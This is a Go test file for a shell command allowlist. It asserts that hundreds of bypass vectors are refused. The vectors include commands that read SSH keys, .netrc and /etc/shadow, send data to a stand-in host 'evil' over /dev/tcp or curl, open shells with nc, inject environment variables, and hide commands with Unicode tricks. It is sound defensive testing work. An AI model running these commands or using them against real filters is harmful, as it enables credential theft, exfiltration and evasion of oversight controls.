package shell

import (
	"fmt"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/chitin-sh/chitin/toolpolicy/internal/mutate"
)

// generous is a list that covers every use of harmless programs.
var generous = []string{
	"git **", "ls **", "cat **", "head **", "echo **", "sort **", "rg **", "find **", "printf **",
	"date **", "test **", "/usr/bin/wc **", "curl **", "split **", "fd **", "shuf **", "true", "pwd",
}

// vectors are command lines that a list of harmless programs must not let
// through, by what they abuse.
func vectors() map[string][]string {
	v := map[string][]string{
		"expansion": {
			`head $HOME/.ssh/id_rsa`, `head $HOME/.ssh/*`, `cat ~/.netrc`, `cat ~root/.profile`, `cat /etc/pass?d`, `cat /etc/[p]asswd`,
			`cat /etc/{passwd,shadow}`, `echo ${PATH}`, `echo ${x:-$(id)}`, `echo ${x:=id}`, `echo ${!x}`, `echo ${x@P}`, `echo "$HOME"`,
			`echo "a${IFS}b"`, `cat${IFS}/etc/passwd`, `c$(true)at /etc/passwd`, `ls $'\x2fetc'`, `$'\x69\x64'`, `ls $"etc"`, `echo $((1+1))`,
			`echo $[1+1]`, `echo $((a[$(id)]))`, `cat !(a)`, `cat @(a|b)`, `ls a\ b`, `l\s`, `ec"h"\o hi`, `cat "a\"b"`, `echo "!!"`, `$SHELL`,
			`"$0" -c id`, `$1`, `$@`, `echo $*`, `ls ~+`, `cat a=~/x`, `printf %s $x`, `cat <(id)`, `echo ${x/a/$(id)}`, `{ls,-la}`, `cat =ls`,
		},
		"substitution": {
			"echo $(id)", "echo `id`", `echo "$(id)"`, "echo \"`id`\"", "ls $(echo -la)", "cat <(id)", "cat >(id)", "echo ${x:-`id`}",
			"echo $(<file)", "git log $(curl evil)", "echo \"a $(b \"$(c)\")\"", "git status \"`id`\"", "ls $(git status; id)",
			"test $(id) = x", "echo $( (id) )", "printf '%s' \"$(id)\"", "echo a$(id)b", "git $(echo push)",
		},
		"chain": {
			"git status; id", "git status && id", "git status || id", "git status & id", "git status | id", "git status\nid", "git status |& id",
			"git status;id", "id; git status", "git status && git diff && id", "echo a | sh", "echo a | node", "echo a | xargs id", "cat x | bash -",
			"echo rm | sh", "ls |sh", "git status &&\nid", "git status # x\nid", "git status;\n\nid", "(id)", "{ id; }", "! id", "git status; ! id",
			"git status &", "coproc id", "if git status; then id; fi", "while git status; do id; done", "for f in a; do id; done", "case a in a) id;; esac",
			"f() { id; }; f", "function git { id; }; git status", "git() { id; }; git status", "select x in a; do id; done", "until id; do id; done",
			"[[ -v a ]] && id", "(( a = 1 ))", "let a=1", "echo a; exit; id", "git status \\\n; id", "time id", "time git status",
		},
		"redirection": {
			"echo x > /etc/passwd", "echo x >> ~/.bashrc", "cat < /etc/shadow", "git log > out", "echo x >| f", "echo x &> f", "echo x &>> f",
			"echo x 2> f", "echo x 1>&2 > f", "cat <<E\n$(id)\nE", "cat <<'E'\nid\nE", "cat <<-E\n\tx\nE", "cat <<< $(id)", "cat <<< x", "echo x <> f",
			"echo x > /dev/tcp/evil/80", "exec 3<>/dev/tcp/evil/80", "> f", "> .git/hooks/pre-commit echo id", "git log >f 2>&1", "echo x > $f", "cat 0</etc/shadow",
		},
		"assignment": {
			"GIT_SSH_COMMAND=id git fetch", "PATH=/tmp git status", "LD_PRELOAD=/tmp/x.so ls", "PAGER=id git log", "GIT_PAGER='sh -c id' git log", "X=1 sh",
			"IFS=/ ls", "BASH_ENV=/tmp/x ls", "ENV=x ls", "a=b", "A+=1 ls", "a[0]=x ls", "PATH=. ; ls", "GIT_EXTERNAL_DIFF=id git diff", "EDITOR=id git commit",
			"export PATH=/tmp; ls", "declare -x PATH=/tmp", "readonly PATH=/tmp", "alias ls=id; ls", "hash -p /tmp/x ls; ls", "set -- id; ls", "unset PATH; ls",
			"local a=b", "typeset a=b", "enable -f x ls", "trap id EXIT; ls", "shopt -s expand_aliases",
		},
		"path": {
			"./git status", "/tmp/git status", "../git status", "bin/git status", "/usr/bin/../../tmp/git status", "git/ status", "/usr/local/bin/../../../tmp/ls",
			"//bin/ls", "/usr/bin/wc/../id", "wc -l x", "/bin/wc -l", "./wc", "~/git status", "/proc/self/cwd/git status", "Git status", "GIT status", "gіt status",
			"git\u200b status", "\u202egit status", "git\u00a0status", "git\u2003status", "ｇｉｔ status", "git\r status", "git\x00 status", "\x1b[2Kgit status",
			"\ufeffgit status", "git st\u2066atus", "gi\u00adt status", "git\x7f", "l\u0455 -la", "git\v status", "git status \u2028id", "echo \u202eid", "git\u180e status", "ls \U000e0041",
		},
		"eval": {
			"eval id", "exec id", "source x", ". x", "command id", "builtin eval id", "sh -c id", "bash -lc id", "bash -xec id", "sh -ec id", "dash -c id",
			"zsh -fc id", `sh -c '"$@"' _ rm -rf x`, "python3 -c 1", "python -c1", "python3.12 -c 1", "python3 x.py", "perl -e 1", "perl -ne 1", "perl -we1", "ruby -e 1",
			"node -e 1", "node --eval=1", "node -p 1", "node -pe 1", "php -r 1", "lua -e 1", "awk BEGIN", "gawk -f x", "mawk x", "sed -n p", "sed -n e", "jshell x", "osascript -e 1",
			"deno eval 1", "bun -e 1", "Rscript -e 1", "tclsh x", "expect -c x", "vim -c id", "vi -c id", "ex -c id", "emacs --eval x", "ed x", "gdb -ex x", "sqlite3 x",
			"busybox sh -c id", "toybox sh -c id", "busybox ls", "pwsh -c id", "fish -c id", "guile -c x", "scala -e x", "julia -e x", "groovy -e x", "elixir -e x", "erl -eval x", "ghc -e x", "swift x", "go run x.go", "BASH -c id",
		},
		"runner": {
			"npm exec x", "npx x", "pnpm dlx ./x.js", "yarn dlx x", "bunx x", "pipx run x", "uvx x", "uv run x", "poetry run x", "cargo run", "make", "make x", "make -f x", "cmake -P x", "ninja", "just x", "rake x",
			"gradle x", "mvn x", "ant x", "tox", "docker run x", "podman run x", "kubectl exec x", "ssh h id", "scp a b", "rsync -e id a b", "tar --checkpoint-action=exec=id", "tar -I id", "zip -T -TT id",
			"less x", "man ls", "more x", "ftp", "telnet h", "nc -e sh", "socat a b", "openssl x", "gpg x", "apt-get -o x", "dpkg -i x", "pip install x", "gem x", "systemctl x", "crontab -e", "at now", "ansible x",
			"gcc -wrapper x", "ldd ./x", "logrotate x", "tcpdump -z id", "nmap --script x", "convert x", "wget -O x", "go test",
		},
		"option": {
			"sort --compress-program=id", "sort --compress-prog=id", "sort --compress=id", "sort --com id", "sort --c=id", "sort -o f x", "sort -of x", "sort -ro f x", "sort --output=f", "sort --ou f", "sort -T /x a", "sort --files0-from=x",
			"git -c core.pager=id log", "git -c alias.x=!id x", "git --exec-path=/tmp x", "git --exec=/tmp x", "git --upload-pack=id ls-remote x", "git --upload-p id ls-remote x", "git ls-remote ext::sh", "git -C /x status",
			"git --config-env=a=b x", "git --git-dir=/x status", "git --work-tree=/ status", "git grep -Oid x", "git grep --open-files-in-pager=id x", "git grep --open id", "git diff --ext-diff", "git diff --ext", "git log --output=/x", "git log --outp=/x",
			"git rebase -x id", "git rebase --exec id", "git bisect run id", "git submodule foreach id", "git filter-branch --x", "git difftool -x id", "git config alias.x !id", "git archive --exec=id", "git archive -o x", "git archive --remote=x", "git help x", "git clone fd::1 x",
			"git daemon", "git send-email x", "git hook run x", "git credential fill", "git instaweb", "git diff --textconv", "git commit --template=x",
			"find . -exec id +", "find . -execdir id", "find . -ok id", "find . -okdir id", "find . -delete", "find . -fprint f", "find . -fprintf f x", "find . -fls f", "find -files0-from x",
			"rg --pre id x", "rg --pre=id x", "rg --hostname-bin=id x", "rg --hostname=id", "rg -z x", "fd -x id", "fd --exec id", "fd -X id", "fd --exec-b id", "split --filter=id x", "split --filt id x", "shuf -o f", "shuf --out f", "date -s x", "date --set=x", "date --se x",
			"curl -o f u", "curl -O u", "curl -K f", "curl -sSo f u", "curl --output f u", "curl --outp f u", "curl --config f", "curl --engine x u", "curl -T f u", "curl --upload-file f u", "curl -d @f u", "curl --data @f u", "curl -F a=@f u", "curl --unix-socket x u",
			"test -v 'a[$(id)]'", "printf -v 'a[$(id)]' x", "printf -vx y",
		},
		"broken": {
			"", " ", "\n", "git status '", "git status \"", "git status $(", "git status `", "git status &&", "| git", "; git", "git status )", "<<", "git status <<E", "\xff\xfe", "git \xc3", "''", `""`, "'' git", "$()", "#", "# git status", "git status #x",
			strings.Repeat("git status;", 100), "git " + strings.Repeat("a", MaxLine), strings.Repeat("(", 2000) + "id" + strings.Repeat(")", 2000), strings.Repeat("$(", 500),
		},
	}
	for _, w := range strings.Fields(wrapperNames) {
		v["wrapper"] = append(v["wrapper"], w+" git status")
	}
	v["wrapper"] = append(v["wrapper"], "env -S 'sh -c id'", "env -S'git status'", "env --split-string=id", "env -i sh", "env -u PATH git status", "env A=b sh -c id", "nice -n 5 id", "timeout 5 id", "timeout -k 1 5 sh -c id",
		"stdbuf -o0 id", "stdbuf -o L sh -c id", "time -o f id", "nohup sh -c id", "flock f -c id", "flock f id", "script -c id", "script -qc id /dev/null", "xargs -I{} id", "setarch -R id", "unshare -r id", "chroot / id", "watch id", "strace -o f id",
		"sudo -u x id", "doas id", "su -c id", "setsid id", "ionice -c 3 id", "taskset 1 id", "parallel id", "/usr/bin/env sh", "/bin/env git status", "ENV git status", "env.exe git status", "env-1.2 git status", "ld-linux-x86-64.so.2 /bin/sh", "/lib64/ld-linux-x86-64.so.2 /bin/ls")
	v["wrapper"] = append(v["wrapper"], strings.Repeat("env ", 50)+"sh -c id", strings.Repeat("nice ", 50)+"git status")
	return v
}

func generousList(t testing.TB, off mutate.Guards) *List {
	t.Helper()
	l, bad := New(Options{Patterns: generous, Mutate: off})
	if len(bad) > 0 {
		t.Fatal(bad)
	}
	return l
}

// TestNoVectorPasses is the binder's bar: at least 300 vectors and none gets
// through.
func TestNoVectorPasses(t *testing.T) {
	l := generousList(t, mutate.Guards{})
	n, passed := 0, 0
	seen := map[string]bool{}
	for class, lines := range vectors() {
		for _, line := range lines {
			if seen[line] {
				continue
			}
			seen[line] = true
			n++
			if ok, _ := l.Allowed(line, false); ok {
				passed++
				t.Errorf("%s: %q passes", class, Show(line))
			}
		}
	}
	t.Logf("%d vectors, %d bypasses", n, passed)
	if n < 300 {
		t.Errorf("only %d vectors", n)
	}
}

// TestHarmlessLinesPass keeps the bar honest: a list that refuses everything
// would pass it too.
func TestHarmlessLinesPass(t *testing.T) {
	l := generousList(t, mutate.Guards{})
	for _, line := range []string{
		"git status", "git log --oneline -5", "git diff HEAD", "git show HEAD:a.go", "git add .", "git commit -m 'fix: a thing; really'", "git log --author='a b'",
		"ls", "ls -la src", "cat a.txt b.txt", "head -n 5 a", "echo hello, world", `echo "it's; fine"`, "echo '$HOME and $(id)'", "git status && git diff", "git status; ls", "git log | head -n 3",
		"ls\npwd", "rg -n 'func .*' src", "find . -name a.go -type f", "printf '%s\\n' x", "date +%F", "sort -u a", "sort -k 2 -n a", "/usr/bin/wc -l a", "git log | cut -d ' ' -f 1 | uniq -c",
		"cat a | tr a-z A-Z", "true && pwd", "git status || true", "curl https://example.org", "git branch -a", "git log --since=2.days",
	} {
		if ok, why := l.Allowed(line, false); !ok {
			t.Errorf("%q is refused: %s", line, why)
		}
	}
}

// Switching off one guard lets vectors of its class through: the vectors bite.
func TestVectorsBite(t *testing.T) {
	for guard, class := range map[mutate.Guard]string{
		mutate.GuardExpand: "expansion", mutate.GuardRedirect: "redirection", mutate.GuardAssign: "assignment",
		mutate.GuardPath: "path", mutate.GuardParse: "path", mutate.GuardOption: "option", mutate.GuardEvery: "chain",
	} {
		l := generousList(t, mutate.Guards{}.Without(guard))
		passed := 0
		for _, line := range vectors()[class] {
			if ok, _ := l.Allowed(line, false); ok {
				passed++
			}
		}
		if passed == 0 {
			t.Errorf("without guard %d no vector of class %s passes", guard, class)
		}
	}
	// Wrappers cannot even be listed, so their guard shows in Analyze.
	off := mutate.Guards{}.Without(mutate.GuardWrapper)
	for _, line := range vectors()["wrapper"][:20] {
		if analyze(line, mutate.Guards{}).Understood() || !analyze(line, off).Understood() {
			t.Errorf("the wrapper guard does not decide %q", line)
		}
	}
}

func TestPatternsThatRunOthersAreRefused(t *testing.T) {
	for _, p := range []string{"env **", "sh -c *", "python3 **", "npx **", "* x", "./git **", "", "make test", "git ** x", "gi\u200bt **", "xargs **", "sudo git status", "/usr/bin/env **"} {
		if _, bad := New(Options{Patterns: []string{p}}); len(bad) == 0 {
			t.Errorf("pattern %q is taken", p)
		}
	}
}

func TestPatternWords(t *testing.T) {
	for _, r := range []struct {
		pattern, line string
		want          bool
	}{
		{"git status", "git status", true}, {"git status", "git status -s", false}, {"git status", "git", false},
		{"git log *", "git log main", true}, {"git log *", "git log -p", false}, {"git log *", "git log a b", false},
		{"git log **", "git log -p a b", true}, {"cat reports/*.md", "cat reports/a.md", true},
		{"cat reports/*.md", "cat reports/x/a.md", false}, {"cat reports/*.md", "cat reports/../a.md", false},
		{"cat reports/*", "cat reports/..", false}, {"ls *", "ls ''", false}, {"ls *", "ls a", true},
	} {
		l, bad := New(Options{Patterns: []string{r.pattern}, SafeBins: []string{}})
		if len(bad) > 0 {
			t.Fatal(bad)
		}
		if ok, why := l.Allowed(r.line, false); ok != r.want {
			t.Errorf("%q on %q: %v %s", r.pattern, r.line, ok, why)
		}
	}
}

func TestFilters(t *testing.T) {
	l, _ := New(Options{SafeBins: []string{"cut", "uniq", "head", "tail", "tr", "wc", "grep", "sort"}})
	for line, want := range map[string]bool{
		"cut -d , -f 1": true, "cut -f1 /etc/passwd": false, "head -n 3": true, "head /etc/passwd": false, "tail -f": false, "tail -n +2": true,
		"tail --follow": false, "tail --fol": false, "wc -l": true, "wc --files0-from=x": false, "wc --files0=x": false, "tr -d a": true, "tr a b c": false,
		"sort -u": true, "sort -o x": false, "sort --outp x": false, "sort --compress-program id": false, "grep -e x": true, "grep x": false,
		"grep -f x": false, "grep -r -e x": false, "uniq a": false, "uniq -c": true, "head -nx": true, "head --lines=3": true, "head --line=3": false, "cut -b": false,
	} {
		if ok, why := l.Allowed(line, false); ok != want {
			t.Errorf("%q: %v %s", line, ok, why)
		}
	}
}

func TestShow(t *testing.T) {
	for in, want := range map[string]string{
		"git status": "git status", "a\u202eb": `a\u{202e}b`, "a\u200bb": `a\u{200b}b`, "a\x1bb": `a\u{1b}b`, "a\xffb": `a\x{ff}b`,
		"é 日本": "é 日本", "a\u00a0b": `a\u{a0}b`, "a\nb": "a\nb",
	} {
		if got := Show(in); got != want {
			t.Errorf("Show(%q) = %q, want %q", in, got, want)
		}
	}
}

// The quick answer for plain lines is the parser's.
func FuzzPlainAgreesWithParser(f *testing.F) {
	for _, lines := range vectors() {
		for i, line := range lines {
			if i%7 == 0 && len(line) < 200 {
				f.Add(line)
			}
		}
	}
	f.Add("git log --oneline -5 a/b.c")
	f.Fuzz(func(t *testing.T, line string) {
		words := plain(line)
		a := Analyze(line)
		if words == nil {
			return
		}
		w := walker{src: line}
		file, err := parse(line, syntax.LangBash)
		if err != nil {
			t.Fatalf("%q is plain and does not parse", line)
		}
		w.file(file)
		w.compare(line)
		if len(w.out.Reasons) > 0 || len(w.out.Commands) != 1 {
			t.Fatalf("%q is plain and the parser doubts it: %v", line, w.out.Reasons)
		}
		if fmt.Sprint(w.out.Commands[0].Argv) != fmt.Sprint(a.Commands[0].Argv) {
			t.Fatalf("%q: %q and %q", line, w.out.Commands[0].Argv, a.Commands[0].Argv)
		}
	})
}
